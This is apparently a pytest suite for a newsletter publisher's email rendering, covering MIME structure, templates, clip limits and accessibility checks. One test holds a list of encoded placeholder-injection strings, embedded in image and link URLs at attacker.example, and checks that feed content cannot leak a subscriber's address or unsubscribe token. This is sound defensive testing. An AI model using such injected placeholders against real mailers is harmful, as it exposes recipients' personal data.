"""Rendering an issue: the email a reader gets, its MIME structure, template errors, the clip guard."""

from __future__ import annotations

import email
import email.policy
import html
import itertools
import re
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from html import escape
from html.parser import HTMLParser

import pytest

from publisher.clip import HTML_BUDGET
from publisher.errors import TemplateError
from publisher.importers.textpage import read_textpage
from publisher.message import compile_message
from publisher.model import Article
from publisher.render import lead_subject, render_digest
from publisher.selection import Digest, select
from publisher.teasers import html_blocks
from tests.helpers import OURS, require

GMAIL_CLIP = 102 * 1024
SLOT = datetime(2025, 10, 6, 8, tzinfo=UTC)
RECIPIENT = {
    "email": "ada@example.com",
    "name": "Ada <Lovelace> & co",
    "unsubscribe_url": "https://news.example.org/unsubscribe/abc.def",
    "preferences_url": "https://news.example.org/preferences/ghi.jkl",
}


def capture_articles(captures) -> list[Article]:
    """The early capture's articles as stored, every fourth one tagged "Featured"."""
    drafts = read_textpage(captures.early.path, as_of=captures.early.as_of)
    return [
        Article(
            guid=d.slug,
            slug=d.slug,
            title=d.title,
            origin=f"https://news.example.org/{d.slug}/",
            summary_html=d.summary_html,
            content_html=d.content_html,
            truncated=d.truncated,
            published=d.published,
            updated=d.published,
            id=n,
            tags=("Featured",) if n % 4 == 0 else (),
        )
        for n, d in enumerate(drafts, start=1)
    ]


@pytest.fixture
def articles(captures) -> list[Article]:
    return capture_articles(captures)


@pytest.fixture
def site(make_settings):
    def make(templates_dir=None, **newsletter):
        data = {
            "site": {"title": "Friends", "language": "en"},
            "newsletters": {"weekly": {"title": "The Weekly", **newsletter}},
        }
        if templates_dir:
            data["templates"] = {"dir": str(templates_dir)}
        return make_settings(data)

    return make


def digest_of(articles, settings) -> Digest:
    newsletter = settings.newsletter("weekly")
    chosen = select(articles, watermark=None, sent_ids=set(), newsletter=newsletter, slot=SLOT, now=SLOT)
    return Digest("weekly", 1, SLOT, chosen.articles, chosen.overflow, chosen.since)


def render(settings, articles):
    return render_digest(digest_of(articles, settings), settings=settings, newsletter=settings.newsletter("weekly"))


@pytest.fixture
def eml(site, articles):
    settings = site()
    rendered = render(settings, articles)
    compiled = compile_message(rendered, settings=settings, newsletter=settings.newsletter("weekly"), issue_number=1)
    return rendered, compiled.personalise(subscriber_id=7, **RECIPIENT)


def test_the_whole_capture_is_one_clean_multipart_alternative_message(eml):
    rendered, raw = eml
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]
    assert all(not part.defects for part in message.walk())
    assert b"\n" not in raw.replace(b"\r\n", b"")  # CRLF only
    assert max(len(line) for line in raw.split(b"\r\n")) <= 998
    html = message.get_body(("html",)).get_content()
    assert len(html.encode("utf-8")) < GMAIL_CLIP
    text = message.get_body(("plain",)).get_content()
    for token in rendered.placeholders.values():
        assert token not in html and token not in text
    assert RECIPIENT["unsubscribe_url"] in html and RECIPIENT["unsubscribe_url"] in text
    assert RECIPIENT["preferences_url"] in html and "ada@example.com" in html


def test_the_html_has_the_design_the_issue_describes(eml, articles, captures):
    rendered, _ = eml
    count = captures.early.count  # 19 in the seeds
    html = rendered.html
    assert '<html lang="en"' in html
    assert '<meta name="color-scheme" content="light dark"' in html
    assert "prefers-color-scheme: dark" in html and "max-width: 480px" in html
    assert f"{count} new articles since 29 September" in html
    assert "Monday 6 October 2025" in html and "Issue 1" in html
    assert html.count("Continue reading →") == count  # every teaser here is shorter than its article
    assert "https://news.example.org/archive/weekly/1.html" in html  # view in browser
    assert "1 Sample Street, Exampletown, EX1 2MP" in html
    tokens = rendered.placeholders
    assert tokens["unsubscribe_url"] in html and tokens["preferences_url"] in html
    titles = [a.title for a in articles]
    positions = [html.find(escape(title, quote=False)) for title in titles]
    assert -1 not in positions and positions == sorted(positions)
    assert 'style="' in html  # css-inline inlined the rules


def test_the_text_part_reads_on_its_own(eml, articles, captures):
    rendered, _ = eml
    text = rendered.text
    lines = text.splitlines()
    count = captures.early.count
    assert lines[:3] == ["The Weekly", "Issue 1 · Monday 6 October 2025", f"{count} new articles since 29 September"]
    titles = [a.title for a in articles]
    joined = " ".join(lines)  # titles longer than 72 characters are wrapped
    positions = [joined.index(title) for title in titles]
    assert positions == sorted(positions)
    assert max(len(line) for line in lines if "://" not in line and "@@" not in line) <= 72
    assert "\n-- \n" in text  # the signature separator, before the footer
    teaser_slug = dict(captures.slugs)[captures.a_teaser]
    assert f"Continue reading: https://news.example.org/{teaser_slug}/" in text
    assert "<p>" not in text and "&amp;" not in text and "\n\n\n" not in text
    assert f"Unsubscribe: {rendered.placeholders['unsubscribe_url']}" in text


def test_each_render_mints_its_own_unguessable_placeholders(site, articles):
    settings = site()
    first, second = render(settings, articles), render(settings, articles)
    assert first.placeholders.keys() == second.placeholders.keys()
    assert set(first.placeholders.values()).isdisjoint(second.placeholders.values())


HOSTILE_FORMS = [
    "@@EMAIL@@",
    "@@UNSUBSCRIBE_URL@@",
    "@@PREFERENCES_URL@@",
    "@@NAME@@",  # the tokens of 0.1
    "&#64;&#64;EMAIL&#64;&#64;",
    "&#x40;&#x40;UNSUBSCRIBE_URL&#x40;&#x40;",  # entity-encoded
    "%40%40EMAIL%40%40",
    "@@EM<!-- -->AIL@@",
    "@@<b></b>EMAIL@@",  # escaped and split
]


@pytest.mark.parametrize("form", HOSTILE_FORMS)
def test_imported_content_cannot_fill_in_a_readers_address_or_links(site, form):
    """A feed item that writes placeholders into an image URL gets them back as plain text."""
    settings = site()
    bait = (
        f'<p>Look <img src="https://attacker.example/t.gif?e={form}" alt="x">'
        f'<a href="https://attacker.example/l?u={form}">{form}</a></p>'
    )
    article = Article(
        guid="bait",
        slug="bait",
        title=f"Bait {form}",
        origin="https://news.example.org/bait/",
        summary_html=bait,
        content_html=bait,
        truncated=False,
        published=SLOT - timedelta(hours=1),
        updated=SLOT - timedelta(hours=1),
        id=1,
    )
    rendered = render(settings, [article])
    compiled = compile_message(rendered, settings=settings, newsletter=settings.newsletter("weekly"), issue_number=1)
    message = email.message_from_bytes(compiled.personalise(subscriber_id=7, **RECIPIENT), policy=email.policy.default)
    secrets = ("ada@example.com", "abc.def", "ghi.jkl", "Lovelace")
    for part in ("html", "plain"):
        body = html.unescape(message.get_body((part,)).get_content())
        urls = re.findall(r"attacker\.example[^\"'\s<>]*", body)
        titles = re.findall(r"Bait [^<\n]*", body)
        assert titles and (urls or part == "plain"), part
        assert [u for u in urls + titles if any(secret in u for secret in secrets)] == [], part
    assert "ada@example.com" in message.get_body(("html",)).get_content()  # the footer still says who


def test_sections_by_tag_head_their_articles(site, articles):
    rendered = render(site(sections=["Featured"]), articles)
    assert ">Featured</h2>" in rendered.html and ">More</h2>" in rendered.html
    assert "== FEATURED ==" in rendered.text and "== MORE ==" in rendered.text
    featured = [a.title for a in articles if a.tags]
    assert len(featured) >= 3
    html_sections = rendered.html.split(">More</h2>")
    text_sections = [" ".join(part.split()) for part in rendered.text.split("== MORE ==")]  # wrapped at 72
    for title in featured:
        assert escape(title, quote=False) in html_sections[0] and title in text_sections[0]
    for title in (a.title for a in articles if not a.tags):
        assert escape(title, quote=False) in html_sections[1] and title in text_sections[1]


def test_overflow_is_listed_as_links(site, articles, captures):
    rendered = render(site(max_articles=5), articles)
    assert "More new articles" in rendered.html and rendered.html.count("Continue reading →") <= 5
    assert captures.issue_1.index(captures.a_teaser) >= 5
    assert escape(captures.a_teaser, quote=False) in rendered.html.split("More new articles")[1]
    assert "== MORE NEW ARTICLES ==" in rendered.text


def test_the_clip_guard_shortens_teasers_then_moves_articles_to_the_overflow(site, articles):
    base = articles
    huge = [
        Article(
            **{
                **a.__dict__,
                "id": n,
                "slug": f"s{n}",
                "title": f"Long read {n}",
                "summary_html": "<p>" + "word " * 3000 + "</p>",
                "published": SLOT - timedelta(minutes=n),
            }
        )
        for n, a in enumerate(base * 10, start=1)
    ]
    settings = site(max_articles=200)
    rendered = render(settings, huge)
    compiled = compile_message(rendered, settings=settings, newsletter=settings.newsletter("weekly"), issue_number=1)
    raw = compiled.personalise(subscriber_id=7, **RECIPIENT)
    html_part = raw.split(b"Content-Type: text/html")[1].split(b"\r\n\r\n", 1)[1].split(b"\r\n--=_publisher")[0]
    assert len(html_part) <= GMAIL_CLIP  # measured as sent: quoted-printable, CRLF, links filled in
    assert len(rendered.html.encode("utf-8")) <= HTML_BUDGET
    assert rendered.trimmed[0] == "teasers removed"
    assert rendered.trimmed[1].startswith("moved ") and "to the overflow list" in rendered.trimmed[1]
    assert "Long read 1<" in rendered.html and "…and" in rendered.html


def test_a_jinja_syntax_error_names_the_template_and_line(site, tmp_path):
    folder = tmp_path / "mine" / "email"
    folder.mkdir(parents=True)
    (folder / "digest.mjml.j2").write_text("<mjml>\n<mj-body>\n{% for x in %}\n</mj-body></mjml>\n")
    with pytest.raises(TemplateError, match=r"mine/email/digest\.mjml\.j2:3: "):
        render(site(templates_dir=tmp_path / "mine"), capture_articles(OURS))


def test_an_unknown_mjml_tag_names_the_template_and_line(site, tmp_path):
    folder = tmp_path / "mine" / "email"
    folder.mkdir(parents=True)
    (folder / "digest.mjml.j2").write_text(
        "<mjml>\n  <mj-body>\n    <mj-section><mj-column>\n      <mj-txt>{{ summary }}</mj-txt>\n"
        "    </mj-column></mj-section>\n  </mj-body>\n</mjml>\n"
    )
    with pytest.raises(TemplateError, match=r"mine/email/digest\.mjml\.j2:4: unknown MJML tag <mj-txt>"):
        render(site(templates_dir=tmp_path / "mine"), capture_articles(OURS))


def test_an_operator_template_overrides_only_what_it_replaces(site, tmp_path, articles):
    folder = tmp_path / "mine" / "email"
    folder.mkdir(parents=True)
    (folder / "digest.txt.j2").write_text("Hello from {{ newsletter.title }}: {{ count }} articles\n")
    rendered = render(site(templates_dir=tmp_path / "mine"), articles)
    assert rendered.text == f"Hello from The Weekly: {len(articles)} articles\n"
    assert f"{len(articles)} new articles since" in rendered.html  # the bundled MJML template still applies


def test_an_error_in_the_subject_template_names_the_config_key(site):
    with pytest.raises(TemplateError, match=r"newsletters\.weekly\.subject: .*line 1"):
        render(site(subject="{{ articles[0].title "), capture_articles(OURS))


def test_a_short_full_post_needs_no_continue_reading_link(site):
    whole = Article(
        guid="g",
        slug="short",
        title="Xi meets Lao president",
        origin="https://news.example.org/short/",
        summary_html="<p>One paragraph.</p>",
        content_html="<p>One paragraph.</p>",
        truncated=False,
        published=SLOT - timedelta(hours=1),
        updated=SLOT - timedelta(hours=1),
        id=1,
    )
    rendered = render(site(), [whole])
    assert "Continue reading" not in rendered.html and "Continue reading" not in rendered.text
    assert "1 new article since" in rendered.html and rendered.trimmed == ()


def test_an_undefined_variable_in_a_template_names_the_template_and_line(site, tmp_path):
    folder = tmp_path / "mine" / "email"
    folder.mkdir(parents=True)
    (folder / "digest.txt.j2").write_text("{{ newsletter.title }}\n\n{{ artcles[0].title }}\n")
    with pytest.raises(TemplateError, match=r"mine/email/digest\.txt\.j2:3: 'artcles' is undefined"):
        render(site(templates_dir=tmp_path / "mine"), capture_articles(OURS))


# --- the email, better than the anchors (issue 16) -----------------------------------------------


class _Headings(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.levels: list[int] = []

    def handle_starttag(self, tag, attrs):
        if re.fullmatch(r"h[1-6]", tag):
            self.levels.append(int(tag[1]))


def heading_levels(page: str) -> list[int]:
    parser = _Headings()
    parser.feed(page)
    return parser.levels


def assert_no_skipped_heading_level(page: str) -> None:
    """Strict: one h1 first, and every heading at most one level below the one before it."""
    levels = heading_levels(page)
    assert levels[0] == 1 and levels.count(1) == 1, levels
    for before, after in itertools.pairwise(levels):
        assert after <= before + 1, f"h{before} then h{after} in {levels}"


@pytest.mark.parametrize("newsletter", [{}, {"sections": ["Featured"]}, {"max_articles": 3}])
def test_headings_never_skip_a_level(site, articles, newsletter):
    rendered = render(site(**newsletter), articles)
    assert_no_skipped_heading_level(rendered.html)
    assert set(heading_levels(rendered.html)) == ({1, 2, 3} if "sections" in newsletter else {1, 2})


def test_the_default_subject_of_both_seed_issues_fits_78_characters(site, articles, captures):
    rendered = render(site(), articles)
    lead = captures.issue_1[0]
    assert len(rendered.subject) <= 78 and rendered.subject.endswith(f" + {len(captures.issue_1) - 1} more")
    assert rendered.subject.startswith(lead if len(lead) <= 60 else lead[:40])
    second = lead_subject(list(captures.issue_2), len(captures.issue_2))
    assert len(second) <= 78 and second.endswith(f" + {len(captures.issue_2) - 1} more")
    long_title = "A headline that goes on and on about the many things that happened this week in detail"
    assert (
        lead_subject([long_title], 1) == "A headline that goes on and on about the many things that happened this week…"
    )
    assert lead_subject(["Short"], 1) == "Short"


def test_the_preview_line_is_the_lead_teaser_padded_and_not_hidden_by_colour(site, articles):
    rendered = render(site(), articles)
    first_text = html_blocks(articles[0].summary_html)[0].text
    assert rendered.preheader and first_text.startswith(rendered.preheader.rstrip("…"))
    assert rendered.preheader[-1] in ".!?…”’"  # a whole sentence
    hidden = re.search(r'<div class="preheader" style="([^"]*)">(.*?)</div>', rendered.html, re.S)
    assert "display:none" in hidden[1].replace(" ", "") and "color" not in hidden[1] and "font-size" not in hidden[1]
    text = html.unescape(hidden[2])
    assert text.startswith(rendered.preheader)
    assert text.count("\u200c") >= 80  # zero-width padding: the inbox shows nothing of the body after it


def test_dark_mode_is_declared_in_css_and_for_outlook_com(site, articles):
    page = render(site(), articles).html
    assert re.search(r":root\s*{\s*color-scheme:\s*light dark", page)
    assert "[data-ogsc] .card" in page and "[data-ogsb] .card" in page
    assert '<meta name="color-scheme" content="light dark"' in page


def full_article(n: int, **fields) -> Article:
    body = "<p>" + " ".join(["Word"] * 900) + ".</p>"
    return Article(
        **{
            "guid": f"g{n}",
            "slug": f"story-{n}",
            "title": f"Story {n}",
            "summary_html": "<p>The first sentence. The second one.</p>",
            "content_html": body,
            "truncated": False,
            "published": SLOT - timedelta(hours=n),
            "updated": SLOT - timedelta(hours=n),
            "id": n,
        }
        | fields
    )


def test_images_bylines_and_reading_time_show_with_each_article(site):
    with_image = full_article(
        1,
        authors=("Ada Lovelace", "Grace Hopper"),
        content_html='<p><img src="https://cdn.example.org/lead.jpg" alt="The harbour at dawn" width="1600" '
        'height="900"></p>' + full_article(1).content_html,
    )
    broken = full_article(2, content_html='<img src="http://cdn.example.org/x.jpg"><p>Short.</p>')
    rendered = render(site(), [with_image, broken])
    images = re.findall(r"<img [^>]*>", rendered.html)
    assert len(images) == 1
    assert 'src="https://cdn.example.org/lead.jpg"' in images[0] and 'alt="The harbour at dawn"' in images[0]
    assert 'width="576"' in images[0]
    assert "By Ada Lovelace and Grace Hopper · 4 min read" in rendered.html
    assert "By Ada Lovelace and Grace Hopper · 4 min read" in rendered.text
    assert "1 min read" in rendered.html  # the short one


def test_a_forwarded_copy_says_where_to_subscribe_and_the_site_block_is_optional(site):
    plain = render(site(), [full_article(1)])
    assert 'Forwarded to you? <a href="https://news.example.org/subscribe"' in plain.html
    # the URL stands alone (no period glued to it), whether or not the line was wrapped before it
    assert "Forwarded to you? Subscribe here. https://news.example.org/subscribe\n" in plain.text.replace(
        ".\nhttps", ". https"
    )
    assert "articles on" not in plain.html
    linked = render(site(site_link=True), [full_article(1)])
    assert re.search(
        r'<a href="https://news.example.org/"[^>]*>Read this issue’s articles on Friends →</a>', linked.html
    )
    assert "Read this issue’s articles on Friends → https://news.example.org/" in linked.text


def test_spamassassin_scores_the_seed_digests_below_half_a_point(site, articles, captures, tmp_path):
    """SpamAssassin's local rules (no network tests) on the whole message a reader gets."""
    require(shutil.which("spamassassin") is not None, "spamassassin (apt-get install spamassassin)")
    settings = site()
    rendered = render(settings, articles)
    compiled = compile_message(rendered, settings=settings, newsletter=settings.newsletter("weekly"), issue_number=1)
    message = compiled.personalise(subscriber_id=7, **RECIPIENT)
    report = subprocess.run(
        ["spamassassin", "-L", "-t"], input=message, capture_output=True, check=True, timeout=120
    ).stdout.decode("utf-8", "replace")
    score = float(re.search(r"X-Spam-Status: \w+, score=(-?[\d.]+)", report)[1])
    assert score < 0.5, report[report.find("Content analysis") :]


def test_relative_links_in_a_teaser_point_at_the_articles_site_in_the_email(site):
    summary = '<p>Read <a href="/reports/2026.html">the report</a> and <a href="notes/">the notes</a>. Done.</p>'
    from_feed = full_article(1, summary_html=summary, origin="https://news.example.net/world/story.html")
    ours = full_article(2, summary_html=summary)  # no origin: our own page is its URL
    rendered = render(site(), [from_feed, ours])
    assert 'href="https://news.example.net/reports/2026.html"' in rendered.html
    assert 'href="https://news.example.net/world/notes/"' in rendered.html
    assert "<https://news.example.net/reports/2026.html>" in rendered.text
    assert re.search(r'href="https://[^"]+/story-2/notes/"', rendered.html)
    assert 'href="/' not in rendered.html and 'href="notes/' not in rendered.html
